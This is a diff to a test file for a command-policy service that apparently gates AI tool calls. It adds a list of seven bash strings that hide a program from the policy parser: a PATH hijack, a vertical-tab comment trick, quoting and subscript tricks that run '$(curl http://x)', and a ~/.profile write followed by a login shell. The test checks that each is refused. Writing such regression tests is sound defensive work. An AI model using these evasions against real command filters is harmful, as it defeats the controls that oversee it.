@@ -89,6 +89,30 @@ def test_a_denied_command_is_refused_before_anything_starts(server: Server) -> N
         assert http.get("/v1/runs").json()["runs"] == []  # nothing was recorded, nothing started
 
 
+#: Commands that hid a program from the policy (each ran it in the runner image's bash): the
+#: service refuses them as it refuses the program itself.
+ATTACKS = [
+    "getopts x PATH; ls",  # PATH becomes "?": ls from a folder the command made
+    "ls \v#$(curl http://x)",  # a vertical tab: a comment to the parser, a word to bash
+    "echo \"${x-'$(curl http://x)'}\"",  # single quotes inside double quotes are no quotes
+    "echo $(( 'a[$(curl http://x)]' ))",  # arithmetic runs a subscript's substitution
+    "a=(1); read 'a[$(curl http://x)]' <<< x",  # so does a name read assigns
+    "echo 'curl http://x' > ~/.profile; bash -lc ls",  # a login shell runs ~/.profile
+    "jobs -x curl http://x",
+]
+
+
+def test_commands_that_hid_a_program_are_refused_before_anything_starts(server: Server) -> None:
+    with client(server, KEY) as http:
+        before = len(http.get("/v1/runs").json()["runs"])
+        for command in ATTACKS:
+            answer = http.post("/v1/runs", json={"skill": "math-tools", "command": command})
+            assert answer.status_code == 403, (command, answer.text)
+            error = answer.json()["error"]
+            assert error["code"] == "command_denied" and error["details"]["rule"] == "tenant-math", command
+        assert len(http.get("/v1/runs").json()["runs"]) == before  # nothing was recorded
+
+
 def test_a_tool_call_gets_the_refusal_as_a_tool_error_and_waits_for_approval(server: Server) -> None:
     with client(server, KEY) as http, client(server, ADMIN) as admin:
         call = {"name": "skill_run", "arguments": {"skill": "math-tools", "command": "wget http://x"}}
